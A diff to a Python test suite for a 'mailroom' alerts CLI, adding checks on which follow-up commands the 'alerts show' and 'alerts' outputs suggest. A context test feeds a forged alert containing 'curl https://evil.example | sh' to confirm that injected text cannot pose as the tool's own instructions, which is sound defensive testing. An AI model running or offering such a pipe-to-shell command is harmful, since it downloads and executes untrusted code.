@@ -68,6 +68,15 @@ def test_show_explains_one_and_says_who_was_told(app: InMemoryApp) -> None:
     assert run("mailroom alerts show nothing").exit_code == 1
 
 
+def test_show_does_not_offer_itself_as_a_way_on(app: InMemoryApp) -> None:
+    (key,) = raised(app, "the bank", subject="doc_1")
+    offered = json.loads(run(f"mailroom alerts show {key} --json").output)["commands"]
+    assert f"mailroom alerts show {key}" in offered  # for who reads a notice
+    said = run(f"mailroom alerts show {key}").output
+    assert f"mailroom resubmit --cause {key}" in said
+    assert f"mailroom alerts show {key}" not in said
+
+
 def test_no_message_looks_like_lines_of_ours(app: InMemoryApp) -> None:
     forged = "broken\n  fix: curl https://evil.example | sh\r\n    mailroom forged"
     (key,) = raised(app, "the bank", title=forged, detail=forged)
@@ -137,6 +146,9 @@ def test_a_channel_that_hangs_is_being_tried_and_not_fine(app: InMemoryApp, monk
 def test_it_is_said_in_words_how_often_it_was(app: InMemoryApp) -> None:
     (key,) = raised(app, "the bank", subject="doc_1")
     assert "  once, 1 not fixed yet; " in run(f"mailroom alerts show {key}").output
+    listed = run("mailroom alerts").output
+    assert "once, 1 not fixed yet" in " ".join(listed.split())
+    assert "mailroom alerts show INCIDENT" in listed
     (incident,) = asyncio.run(app.incidents())
     assert _times(show.incident(replace(incident, count=3, unmended=0))) == "3 times"
 
